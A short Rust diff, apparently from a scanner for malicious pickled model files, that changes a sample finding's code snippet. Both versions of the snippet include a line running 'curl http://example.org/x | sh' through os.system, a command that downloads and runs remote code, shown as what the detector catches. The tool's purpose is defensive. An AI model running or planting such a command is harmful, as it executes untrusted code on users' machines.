@@ -42,9 +42,9 @@ pub(super) fn sample() -> Outcome {
     call.help = Some("if it belongs there: fickgate allow os.system --reason WHY".to_owned());
     call.snippet = Some(Snippet {
         lines: vec![
-            line(7, "v0 = torch._utils._rebuild_tensor_v2(…)"),
-            line(142, "os.system('curl http://example.org/x | sh')"),
-            line(1600, "return OrderedDict(weight=v0)"),
+            line(7, "from os import system"),
+            line(142, "_1 = system('curl http://example.org/x | sh')"),
+            line(1600, "return {'weight': _1}"),
         ],
         marked: 1,
     });
